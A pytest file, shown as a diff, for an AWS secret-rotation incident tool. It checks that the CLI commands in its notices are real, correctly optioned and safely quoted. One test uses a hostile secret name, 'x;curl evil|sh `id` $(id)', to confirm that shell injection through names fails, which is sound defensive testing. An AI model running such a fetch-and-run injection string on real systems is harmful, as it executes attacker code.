@@ -1,0 +1,134 @@
+"""Every command in a notice is one that the AWS CLI or our own has, with the options that it takes."""
+
+import json
+import re
+import shlex
+from typing import Any
+
+import pytest
+from typer.main import get_command
+
+from rotation_guard.cli.__main__ import _app
+from rotation_guard.domain.remediation.decisions import RULES, Action
+from tests.handlers.aws_commands import check_command
+from tests.handlers.remediation.transitions import (
+    ARN,
+    FUNCTION,
+    NOT_LISTED,
+    SETTLED,
+    TURNS,
+    decided,
+    held,
+    incident,
+    told,
+)
+
+VERSIONS = {"v1": ["AWSCURRENT"], "v2": ["AWSPENDING"], "v3": ["AWSPREVIOUS"]}
+DENIED = "RotateSecret was refused: access denied: by its own policy (AccessDeniedException)."
+ROWS = {
+    **{rule.name: {"actions": [decided(rule.name)]} for rule in RULES if rule.action is Action.ESCALATE},
+    "denied": {"actions": [{"action": "retry", "number": 1, "outcome": DENIED}]},
+    "refused": {"actions": [{"action": "retry", "number": 1, "outcome": "RotateSecret was refused: no."}]},
+    "gone": {"unreadable": "Secrets Manager does not know it: it is gone.", "actions": [decided("untouchable")]},
+    "forward": {"evidence": {"current": "broken", "pending": "works"}},
+    "back": {"evidence": {"current": "broken", "pending": "broken", "previous": "works"}},
+    "restarts": {
+        "restarts": [
+            {**SETTLED, "state": "failed"},
+            {**SETTLED, "target": "lambda:api", "state": "failed"},
+            {**SETTLED, "target": "ssm:team-restart", "state": "failed"},
+            NOT_LISTED,
+        ]
+    },
+    "no function": {"rotation_function": None},
+    "test": {"event_type": "TestRotationFailed"},
+    "recovered": {"outcome": "recovered by AWS", "new_value_versions": VERSIONS},
+    "rolled forward": {"outcome": "rolled forward"},
+}
+for reason in (
+    "It is marked for deletion.",
+    "It is a replica: its primary is in us-east-1.",
+    "It may not be looked at",
+):
+    ROWS[reason] = {"actions": [decided("untouchable")], "reason": reason}
+
+
+def row(**changes):
+    return incident(**{"rotation_function": FUNCTION, "versions": VERSIONS, **changes})
+
+
+def check(command):
+    words = shlex.split(command)
+    assert "\n" not in command
+    if words[0] == "rotation-guard":
+        group: Any = get_command(_app())
+        known = group.commands[words[1]].commands[words[2]]
+        names = {name for parameter in known.params for name in parameter.opts} | {"--reason"}
+        assert {word for word in words if word.startswith("--")} <= names, command
+        return
+    check_command(words)
+    assert words[words.index("--region") + 1] == "eu-west-1"
+
+
+@pytest.mark.parametrize("turn", [*TURNS, "held_burst"])
+@pytest.mark.parametrize("name", ROWS)
+def test_commands_exist_with_their_options(turn, name):
+    burst = held(25) if turn == "held_burst" else ()
+
+    notice = told(turn, row(**ROWS[name]), held=burst)
+
+    assert notice.facts["commands"] == [
+        line.strip() for line in notice.text.splitlines() if re.match(" +aws | +rotation-guard ", line)
+    ]
+    for command in notice.facts["commands"]:
+        check(command)
+
+
+def test_the_check_knows_a_command_that_does_not_exist_and_an_option_that_is_misspelt():
+    for wrong in (
+        "aws secretsmanager rotate-secrets --secret-id x --region eu-west-1",
+        "aws secretsmanager rotate-secret --secret x --region eu-west-1",
+        "aws secretsmanager rotate-secret --region eu-west-1",
+        "rotation-guard incidents show x --stack-output f",
+    ):
+        with pytest.raises(AssertionError):
+            check(wrong)
+
+
+@pytest.mark.parametrize("hostile", ["x;curl evil|sh `id` $(id)", "it's", "--help", "a b", "*"])
+def test_a_command_survives_a_name_that_a_shell_would_run(hostile):
+    arn = f"{ARN[:-16]}{hostile}-Ab12Cd"
+    changes = {"secret_name": hostile, "secret_arn": arn, "actions": [decided("orphaned")]}
+
+    for command in told("escalated", row(**changes)).facts["commands"]:
+        words = shlex.split(command)
+        if "--secret-id" in words:
+            assert words[words.index("--secret-id") + 1] == arn
+        if words[:3] == ["rotation-guard", "incidents", "release"]:
+            assert words[3] == (arn if hostile.startswith("-") else hostile)
+
+
+def test_ids_are_filled_in_as_far_as_they_are_known():
+    [move, *_] = told("escalated", row(evidence={"current": "broken", "pending": "works"})).facts["commands"]
+
+    assert shlex.split(move) == [
+        *("aws", "secretsmanager", "update-secret-version-stage", "--secret-id", ARN),
+        *("--version-stage", "AWSCURRENT", "--move-to-version-id", "v2", "--remove-from-version-id", "v1"),
+        *("--region", "eu-west-1"),
+    ]
+
+
+def test_the_log_is_read_from_before_the_step_that_failed_could_have_begun():
+    # 2026-03-01T00:50:20Z is 1772326220 in epoch seconds; a function runs for 15 minutes at most.
+    [log] = [one for one in told("opened", row()).facts["commands"] if " logs " in one]
+
+    assert "--log-group-name /aws/lambda/orders-rotation" in log
+    assert f"--start-time {(1772326220 - 15 * 60) * 1000}" in log
+
+
+@pytest.mark.parametrize("qualifier", ["", ":live", ":7"])
+def test_the_log_group_is_that_of_the_function_whatever_its_alias(qualifier):
+    facts = told("opened", row(rotation_function=f"{FUNCTION}{qualifier}")).facts
+
+    assert facts["log_group"] == "/aws/lambda/orders-rotation"
+    assert json.dumps(facts["commands"]).count("/aws/lambda/orders-rotation ") == 1
